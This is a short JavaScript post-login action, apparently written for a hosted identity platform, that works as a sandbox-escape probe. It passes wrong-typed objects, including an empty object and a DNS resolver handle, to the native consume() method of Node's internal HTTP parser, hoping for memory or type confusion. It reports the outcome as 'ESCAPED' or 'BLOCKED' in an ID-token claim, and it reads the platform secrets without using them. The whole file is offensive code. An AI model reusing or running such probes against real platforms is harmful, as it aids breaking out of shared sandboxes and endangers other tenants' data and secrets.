// objects of the wrong kind given to the natives of the HTTP parser
exports.onExecutePostLogin = async (event, api) => {
  const S = event.secrets;
  const out = (v) => { try { api.idToken.setCustomClaim('probe', String(v).slice(0, 400)); } catch {} };
  const found = [];
  const attempt = async (label, act) => { try { const r = await act(); if (r) found.push(label + ' ' + String(r).slice(0, 80)); } catch {} };
  const parserOf = () => new (require('_http_common').HTTPParser)();
  await attempt('consume', () => parserOf().consume({}) || 'taken');
  await attempt('consume a resolver', () => parserOf().consume(new (require('dns').Resolver)()._handle) || 'taken');
  await attempt('consume by http', () => { const r = require('http').request('http://x.example/'); r.on('error', () => {}); r.end(); const p = Object.getPrototypeOf(r.parser || parserOf()); return p.consume.call(parserOf(), {}) || 'taken'; });
  out(found.length > 0 ? 'ESCAPED:' + found.join('; ') : 'BLOCKED:nothing worked');
};
